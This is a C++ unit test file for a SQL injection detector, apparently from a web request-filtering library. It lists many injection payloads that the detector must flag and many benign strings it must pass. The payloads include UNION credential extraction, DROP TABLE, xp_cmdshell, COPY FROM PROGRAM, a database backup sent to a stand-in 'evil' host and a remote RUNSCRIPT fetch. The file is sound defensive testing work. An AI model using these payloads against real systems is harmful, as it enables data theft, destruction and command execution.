#include <string>
#include <vector>
#include <string_view>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"

namespace fnguard::detect {
namespace {

using testing::Detects;

struct AttackCase {
  std::string_view value;
  std::string_view rule;
};

TEST(SqliTest, DetectsAttacks) {
  const AttackCase kCases[] = {
      {"nobody' OR 'k'='k", "sqli.tautology"},
      {"7 or 2=2", "sqli.tautology"},
      {"7) OR (2=2", "sqli.tautology"},
      {"zz\" or \"q\"=\"q", "sqli.tautology"},
      {"x' or 3>2 --", "sqli.tautology"},
      {"x' oR/**/5=5#", "sqli.tautology"},
      {"x'\tor\n8=8-- -", "sqli.tautology"},
      {"x'or(4)=(4)#", "sqli.tautology"},
      {"x' || 'b'='b", "sqli.tautology"},
      {"12 AND 3 BETWEEN 1 AND 5", "sqli.tautology"},
      {"9 union all select null,null,version()", "sqli.union"},
      {"-5 UNION/**/SELECT username, password FROM accounts", "sqli.union"},
      {"q') union (select 1,2)--", "sqli.union"},
      {"x' /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,3-- -", "sqli.union"},
      {"3; DROP TABLE orders", "sqli.stacked"},
      {"w'; exec master..xp_cmdshell 'whoami'--", "sqli.function_call"},
      {"k'; waitfor delay '0:0:7'--", "sqli.stacked"},
      {"44; declare @v varchar(20)", "sqli.stacked"},
      {"bob'--", "sqli.comment_truncation"},
      {"root')#", "sqli.comment_truncation"},
      {"8 and sleep(4)", "sqli.time_blind"},
      {"j' AND BENCHMARK(5000000,MD5(1))#", "sqli.time_blind"},
      {"1;select pg_sleep(6)", "sqli.stacked"},
      {"t' and extractvalue(2,concat(0x5c,@@version))-- ", "sqli.error_based"},
      {"1 AND updatexml(1,concat(0x3a,user()),1)", "sqli.error_based"},
      {"z' union select load_file('/etc/hosts')#", "sqli.union"},
      {"m' into outfile '/tmp/out.txt'--", "sqli.function_call"},
      {"6 order by 12--", "sqli.order_by"},
      {"p' group by id having 1=1--", "sqli.order_by"},
      {"2 and (select count(*) from sysobjects)>0", "sqli.tautology"},
      // A quote behind a backslash closes the literal where backslash does
      // not escape, or where the application adds one before each quote.
      {"\\' or 4=4--", "sqli.tautology"},
      {"kim\\' union select login, pass from staff--", "sqli.union"},
      // A select-list item with its alias in backticks.
      {"9 union select user_login `u` from wp_users", "sqli.union"},
  };
  for (const AttackCase& c : kCases) {
    Match m;
    EXPECT_TRUE(Detects(SqliDetector(), c.value, &m)) << c.value;
    EXPECT_GE(m.score, 60) << c.value;
    EXPECT_EQ(m.rule_id, c.rule) << c.value;
    EXPECT_FALSE(m.reason.empty()) << c.value;
    EXPECT_LE(m.offset + m.length, c.value.size() + 1) << c.value;
  }
}

TEST(SqliTest, RuleIdsNameTheTechnique) {
  Match m;
  ASSERT_TRUE(Detects(SqliDetector(), "9 union all select null,null", &m));
  EXPECT_EQ(m.rule_id, "sqli.union");
  ASSERT_TRUE(Detects(SqliDetector(), "3; DROP TABLE orders", &m));
  EXPECT_EQ(m.rule_id, "sqli.stacked");
  ASSERT_TRUE(Detects(SqliDetector(), "8 and sleep(4)", &m));
  EXPECT_EQ(m.rule_id, "sqli.time_blind");
}

TEST(SqliTest, DetectsEncodedAttacks) {
  const std::string_view kCases[] = {
      "x%27%20or%20%271%27%3D%271",
      "x%2527%2520or%25201%253D1--",
      "5%20UNION%20SELECT%201,2",
      "x&#39; or &#39;a&#39;=&#39;a",
      "\xEF\xBC\x87 or 1=1--",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_TRUE(Detects(SqliDetector(), v, &m)) << v;
  }
}

TEST(SqliTest, IgnoresBenignText) {
  const std::string_view kCases[] = {
      "O'Brien",
      "Don't stop",
      "it's 5 o'clock",
      "select your plan",
      "Drop us a line; we'll reply",
      "union station",
      "1-2 or 3-4 weeks",
      "rock'n'roll",
      "I'd say 'yes' or 'no'",
      "Select Comfort; Union Pacific",
      "The Union Select Committee meets today",
      "john.doe+tag@example.com",
      "https://example.com/search?q=shoes&sort=price-asc&page=2",
      "# Heading\n\n- item one\n- item two",
      "{\"name\":\"x\",\"count\":3,\"tags\":[\"a\",\"b\"]}",
      "\"Chromium\";v=\"92\", \" Not A;Brand\";v=\"99\", \"Google Chrome\";v=\"92\"",
      "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
      "3f2a9c4e-1b7d-4e8a-9f00-2c6b1d8e7a55",
      "2024-03-01T12:30:00Z",
      "/var/log/app-2024.log",
      "QmFzZTY0IGVuY29kZWQgdGV4dA==",
      "p@ss'W0rd--#1",
      "Hello; select a plan below",
      "pay 10 or 20 dollars",
      "and then there were none",
      "5' 10\" tall",
      "Le'Veon Bell -- running back",
      "It\\'s a \\\"great\\\" day, isn\\'t it?",
      "O\\'Brien",
      "C:\\Users\\'s folder",
  };
  for (std::string_view v : kCases) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(SqliTest, HeadersAreStricterThanQuery) {
  Match m;
  // A bare truncation probe passes the query threshold but not the header one.
  EXPECT_TRUE(Detects(SqliDetector(), "bob'--", &m, event::Location::kQuery));
  EXPECT_FALSE(Detects(SqliDetector(), "bob'--", &m, event::Location::kHeader));
  EXPECT_TRUE(Detects(SqliDetector(), "1 union select 1,2", &m, event::Location::kHeader));
}

// A HAVING condition on constants alone (any of SQL's arithmetic, bitwise
// or comparison operators), as the whole value or after a breakout, probes a
// query that groups rows; a HAVING in prose goes on past its numbers.
TEST(SqliTest, HavingConditionOnConstants) {
  for (std::string_view v : {"HAVING 2-1", "having 1=", "HAVING 1/1", "HAVING 1^2",
                             "HAVING 1|1", "HAVING ('1' + 1)", "' HAVING 2-1 --",
                             "1) having 4*2#"}) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.tautology") << v;
  }
  for (std::string_view v : {"having 1/2 cup of sugar", "having 2", "Having (2) kids",
                             "having fun", "' where 1 --", "having 3-4 people over"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// After the value's literal closes, a comma and two constants compared: an
// extra item in a VALUES or argument list. A list of names is not.
TEST(SqliTest, ListItemAfterBreakoutIsATautology) {
  for (std::string_view v : {"guest', '1'='1", "x' , 'a'='a", "bob', 7=7 --", "u\", 2>1#"}) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.tautology") << v;
  }
  for (std::string_view v : {"Smith', 'Jones', 'Brown", "O'Brien, 1=1", "a', b=c",
                             "It's fine, 1=1 is true", "x', '1'='1' and more words"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// A value that closes a column expression, names it and goes on to FROM
// rewrites the tail of a select.
TEST(SqliTest, AliasBeforeFromAfterBreakout) {
  for (std::string_view v : {") AS total FROM", ")   as x_1   from orders", "7 AS \"n\" FROM t",
                             "q' as c from users", ") AS 'Summe' FROM"}) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.union") << v;
  }
  for (std::string_view v : {"(France) as seen from above", "12 as gifts from home",
                             "Paris (France) as capital from 1871", ") as in: from"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// A column or table name taken from input and quoted with backticks by the
// query (ORDER BY `<value>`) is broken out of like a literal; the catalog
// may be named with backticks too.
TEST(SqliTest, BacktickQuotedNameBrokenOutOf) {
  const AttackCase kCases[] = {
      {"name` AS `n` FROM accounts", "sqli.union"},
      {"price` DESC, (SELECT 1 FROM users)#", "sqli.union"},
      {"col`) UNION SELECT password FROM users#", "sqli.union"},
      {"x` from users where 1=1#", "sqli.union"},
      {"from `information_schema`.columns", "sqli.function_call"},
      {"FROM `INFORMATION_SCHEMA`.`SCHEMATA`", "sqli.function_call"},
  };
  for (const AttackCase& c : kCases) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), c.value, &m)) << c.value;
    EXPECT_EQ(m.rule_id, c.rule) << c.value;
  }
  // Markdown code spans in prose.
  for (std::string_view v : {"Set `retries` = 3 or `timeout` = 10 in the config",
                             "Use `foo` from the list, or `bar` if you prefer",
                             "Press `Ctrl` + `C` to copy, then `Ctrl` + `V`",
                             "The `SELECT` statement returns rows from a table",
                             "Replace `a` with `b` where needed",
                             "see `information_schema`.tables in the manual"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(SqliTest, SetOperatorsBesideUnion) {
  // EXCEPT, INTERSECT and MINUS append a query as UNION does.
  for (std::string_view v : {"7 intersect select login from staff",
                             "k' EXCEPT SELECT token FROM sessions-- ",
                             "3) minus (select owner from vaults)",
                             "9 intersect all select 1,2,3#"}) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.union") << v;
  }
  // The same words in prose, or without a query after them.
  for (std::string_view v : {"Every colour except select shades is in stock",
                             "The sets intersect, select the overlap",
                             "12 minus 4", "2 except", "all items except the select range"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// UNION SELECT right where the value breaks out is read whatever became of
// the select list (cut off, or mangled by a filter).
TEST(SqliTest, UnionSelectRightAtTheBreakout) {
  for (std::string_view v : {"'union select/", "x\" union select", "5' UNION SELECT ~"}) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.union") << v;
  }
  for (std::string_view v : {"' union selected", "the union's select few", "don't union"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// "; SET @var" cut off after the variable counts where the ';' opens the
// injected part: at the start, after the closed literal or after a number.
TEST(SqliTest, UserVariableSetAfterSemicolonAtTheBreakout) {
  for (std::string_view v : {";SET @OLD_MODE", "x'; set @a", "1; set @b --"}) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.stacked") << v;
  }
  for (std::string_view v : {"Ready; set @team", "; set @bob to review",
                             "done; set @alice as reviewer", "please set @bob"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(SqliTest, WholeDataChangingAndSchemaStatements) {
  // A value that is a whole INSERT, UPDATE, DELETE or DDL statement, as a
  // whole SELECT ... FROM already is.
  for (std::string_view v : {
           "insert into accounts values (7,'eve','x')",
           "INSERT INTO `shop`.`orders` (id, total) VALUES (1, 0)",
           "insert into audit select * from staff",
           "update staff set salary=99999 where id=3",
           "delete from sessions where uid > 0",
           "DELETE FROM logs;",
           "alter table staff add column is_admin int",
           "ALTER TABLE `t_v3` ADD `video` TEXT CHARACTER SET latin1",
           "create table loot (k text, v text)",
           "CREATE TEMPORARY TABLE IF NOT EXISTS x (id int)",
           "create or replace function f(a int) returns int as $$ select a $$",
           "CREATE PROCEDURE dump() BEGIN SELECT 1; END",
           "drop table if exists staff",
           "DROP DATABASE shop;",
           "drop view v -- gone",
           "truncate table audit_log",
           "declare @s varchar(200) select @s = 0x6964",
           "DECLARE @t AS TABLE (id int)",
       }) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.statement") << v;
  }
  // Sentences that open with the same verbs.
  for (std::string_view v : {
           "Update your profile settings = now", "Drop table tennis",
           "drop table users", "delete from cart", "Delete from list where possible",
           "create table of contents (TOC)", "insert into the cart values (see below)",
           "Alter table layout: add rows", "create function", "truncate logs",
           "Insert into slot B", "update: set the alarm", "Declare @home as your base",
           "declare @team winners"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

// Statements stacked after ';' that write or read files on the server or
// run a program: T-SQL's BACKUP and RESTORE, PostgreSQL's COPY.
TEST(SqliTest, StackedBackupRestoreAndCopy) {
  for (std::string_view v : {
           "'; BACKUP DATABASE master TO DISK='\\\\evil\\x'--",
           "1; RESTORE DATABASE shop FROM DISK = 'c:\\x.bak'",
           "'; COPY loot FROM PROGRAM 'id'--",
           "1; copy loot to '/tmp/x'",
           "1;COPY t FROM 'C:/Windows/win.ini'",
       }) {
    Match m;
    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "sqli.stacked") << v;
  }
  for (std::string_view v : {"Backup database to the cloud nightly", "copy from the handout",
                             "Restore log in settings", "Step 1; copy notes to 'archive'",
                             "done; copy it to 'drafts' later", "Save; copy to clipboard"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(SqliTest, EscapedQuoteInsideTheClosedLiteral) {
  // A backslash-escaped quote stays inside the literal; the next quote closes it.
  for (std::string_view v : {"bob\\''or'z", "it\\'s me' OR 'k", "n\\''||'"}) {
    Match m;
    EXPECT_TRUE(Detects(SqliDetector(), v, &m)) << v;
  }
  for (std::string_view v : {"O\\'Brien", "pa\\'ss\\\"wo'rd", "a\\'b'c'd"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(SqliTest, WhitespaceAndCommentsAroundTheBreakoutReadAsSpaces) {
  // A tab, a newline or an empty comment where a space was: the text around
  // the injected part stays plausible, so the same breakouts are found.
  for (std::string_view v :
       {"\tzz'^1!='2", "\nzz'^1!='2", "/**/zz'^1!='2", "/* c */zz'^1!='2", "k\t'<'\tm",
        "k/**/'<'/**/m", "q'\nor\ncol^'-2\n", "q'/**/or/**/col^'-2/**/",
        "7'/col\tis\tnot\tnull\t-\t'\t"}) {
    Match m;
    EXPECT_TRUE(Detects(SqliDetector(), v, &m)) << v;
  }
  // A word quoted in prose stays prose with tabs; a comment of symbols is
  // not plausible text.
  for (std::string_view v : {"a\t'-'\tb", "the\t'or'\toperator", "x/*{#*/y'z", "it's a /* note */ o'clock"}) {
    Match m;
    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
  }
}

TEST(SqliTest, PathologicalInputsFinish) {
  const std::string_view kUnits[] = {"(", "'", "\"", "/*", "--", "1=", "or ", "`", "@", "0x"};
  for (std::string_view unit : kUnits) {
    std::string big;
    while (big.size() < (1u << 20)) big += unit;
    Match m;
    Detects(SqliDetector(), big, &m);
  }
  // Escapes with no quote after them to close the literal they are in.
  for (std::string_view head : {"'", "\"", "a'b\"c`d;e|f&g$h(i)j{k}l[m]n<o>p=q"}) {
    std::string big(head);
    big.append(1 << 20, '\\');
    Match m;
    Detects(SqliDetector(), big, &m);
  }
  std::string tail(1 << 20, 'a');
  tail += "' or 1=1--";
  Match m;
  EXPECT_TRUE(Detects(SqliDetector(), tail, &m));
}

TEST(SqliTest, MoreAssignmentsInAnUpdatesSetList) {
  for (const std::string v :
       {"x', is_admin=1, email='a@b.c", "', role='admin", "bob', role='admin' WHERE id=1-- -",
        "5, password='0wned'", "7, pw=MD5('x')#", "x\", admin=TRUE -- "}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), v), "sqli.set_clause") << v;
  }
  for (const std::string v : {"O'Brien, name='x'", "5, x=2", "I'm fine', ok='yes, thanks",
                              "Dear 'Sam', note='hi' and bye", "3, 4, 5", "a', b",
                              "it's, a=1", "x', a=1 and more words",
                              "Sure', fine='ok, will do"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), v), "") << v;
  }
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "-5 UNION DISTINCTROW SELECT 1,2"), "sqli.union");
}

// Statements H2 and Cassandra run after ';', and objects DROP removes.
TEST(SqliTest, MoreStackedStatements) {
  for (const std::string a :
       {"1; RUNSCRIPT FROM 'http://203.0.113.9/x.sql'", "x'; DROP KEYSPACE app; --",
        "1; drop sequence s1--", "1; DROP INDEX idx_users--"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), a), "sqli.stacked") << a;
  }
  for (const std::string b : {"Tests done; runscript from the wiki next", "Drop keyspace? never"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), b), "") << b;
  }
}

// Vertical tabs, form feeds and no-break spaces separate SQL words.
TEST(SqliTest, OtherWhitespaceBetweenKeywords) {
  for (const std::string a : {"1'%0bunion%0bselect%0b1,2,3--+", "1'\vunion\fselect 1,2-- -",
                              "1'\xC2\xA0union\xC2\xA0select\xC2\xA0" "1,2-- -"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), a), "sqli.union") << a;
  }
}

// An e-mail field's login bypass: the comment's only text is the rest of
// the address. A domain that is not one, or other text, stays text.
TEST(SqliTest, CommentHoldingTheRestOfAnEmailAddress) {
  for (const std::string a : {"admin'--@example.com", "root'#@mail.example.org",
                              "x')--@a-b.example"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), a), "sqli.comment_truncation") << a;
  }
  for (const std::string b : {"o'neil--@example.com", "it's--@home", "ann'--@example.com today",
                              "rock'n'roll--@example.com"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), b), "") << b;
  }
}

// DROP/CREATE/ALTER/TRUNCATE of an object name the object: "drop table"
// quoted in a search filter is no statement.
TEST(SqliTest, SchemaStatementsNameTheirObject) {
  for (const std::string a : {"x\" drop table users--", "'; drop table [users]--",
                              "'; DROP TABLE \"users\"--", "1; truncate table t--"}) {
    EXPECT_NE(testing::RuleOf(SqliDetector(), a), "") << a;
  }
  for (const std::string b : {"status:active AND NOT tags:\"drop table\"",
                              "title:\"create index\" OR title:\"alter view\""}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), b), "") << b;
  }
}

// What a naive filter hands the database: comments deleted from inside
// keywords, UNION and SELECT deleted once from inside themselves.
TEST(SqliTest, KeywordsANaiveFilterReassembles) {
  for (const std::string a : {"1 UN/**/ION SEL/**/ECT 1,2,3", "-1' uniunionon selselectect 1,2-- -",
                              "9 UNIunionON SELselectECT null,null--"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), a), "sqli.union") << a;
  }
  for (const std::string b : {"the reunion selection committee's news", "a/* note */b union c",
                              "unionunion and selectselect are typos"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), b), "") << b;
  }
}

// Adjacent literals joined, JSON containment and key tests compared, rows
// added to VALUES, PostgreSQL's DO block stacked.
TEST(SqliTest, LiteralJoinsJsonTruthsRowsAndDoBlocks) {
  for (const std::string a :
       {"' OR 'adm' 'in'='admin'-- -", "1 AND '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb",
        "' OR '{\"x\":1}'::jsonb ? 'x'--", "' or data @> '{\"role\":\"admin\"}",
        "a'),('eve','eve@evil.test','admin')-- -", "1;DO $$BEGIN PERFORM pg_sleep(5);END$$--",
        "1; do $t$ begin perform pg_sleep(5); end $t$;"}) {
    EXPECT_NE(testing::RuleOf(SqliDetector(), a), "") << a;
  }
  for (const std::string b : {"I'd say (see 'a', 'b'), ('c', 'd') are fine", "we do $$ stuff; ok",
                              "Is it 'a' 'b' or not?", "what's the key? 'x' maybe"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), b), "") << b;
  }
}

TEST(SqliTest, NameAfterACompleteConditionIsProse) {
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "2 + 2 = 4, and 1 = 1 obviously"), "");
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "fix: WHERE 1=1 default condition was slow"), "");
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "drop table if exists syntax postgres"), "");
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "1 and 1=1"), "sqli.tautology");
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "x' WHERE 1=1 --"), "sqli.tautology");
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "drop table if exists users cascade"),
            "sqli.statement");
  // T-SQL goes on with a statement without ';'.
  EXPECT_NE(testing::RuleOf(SqliDetector(), "a'; declare c cursor for select name from t "
                                            "where 1 = 1 OPEN c"),
            "");
}

TEST(SqliTest, JsonDocumentKeysAreNoBreakout) {
  EXPECT_EQ(testing::RuleOf(SqliDetector(),
                            "{\"and\": [{\">=\": [{\"var\": \"v\"}, \"2.4\"]}, {\"==\": [1, 1]}]}"),
            "");
  EXPECT_NE(testing::RuleOf(SqliDetector(), "{\"id\": \"1\" or \"1\"=\"1\"}"), "");
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "x\" and \"a\"=\"a"), "sqli.tautology");
}

TEST(SqliTest, GluedNullParenthesizedTruthsAndSelectLists) {
  const std::pair<std::string, std::string> attacks[] = {
      // MySQL reads \N as NULL, also glued to the keyword after it.
      {"\\Nunion select 1,password,3 from users-- -", "sqli.union"},
      // A number that closes the query's parentheses and reopens them.
      {"1)) or ((1", "sqli.tautology"},
      {"7) || (7", "sqli.tautology"},
      // A column parameter that names its own table and cuts the query off.
      {"email FROM users--", "sqli.comment_truncation"},
      {"name,password FROM app.accounts#", "sqli.comment_truncation"},
      {"* FROM users-- -", "sqli.comment_truncation"},
  };
  for (const auto& [v, rule] : attacks) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), v), rule) << v;
  }
  for (const std::string v :
       {"C:\\Nightly\\build", "\\Notes\\union.txt", "1) or 1", "2) or (3", "chapter 1) or (1 more",
        "email FROM users", "quote from me -- Bob", "data from db -- cached"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), v), "") << v;
  }
}

TEST(SqliTest, AQuotedNameAfterABreakoutConditionIsASyntaxError) {
  // Markdown code spans read in a backtick context: the name after the
  // condition is the rest of the value.
  for (const std::string v :
       {"Is `WHERE deleted_at IS NULL` better than a boolean is_deleted column?",
        "Is `OR 1=1` style injection still possible if I use an ORM?"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), v), "") << v;
  }
  for (const std::string v : {"' OR 1=1 --", "x' or 1=1 limit 1", "' or 'a'='a",
                              "admin' or 1=1 waitfor delay '0:0:5'--", "' WHERE 1=1 --"}) {
    EXPECT_EQ(testing::RuleOf(SqliDetector(), v), "sqli.tautology") << v;
  }
}

TEST(SqliTest, ShutdownWithNowait) {
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "'; SHUTDOWN WITH NOWAIT;--"), "sqli.stacked");
  EXPECT_EQ(testing::RuleOf(SqliDetector(), "shutdown with the team at 5"), "");
}

}  // namespace
}  // namespace fnguard::detect
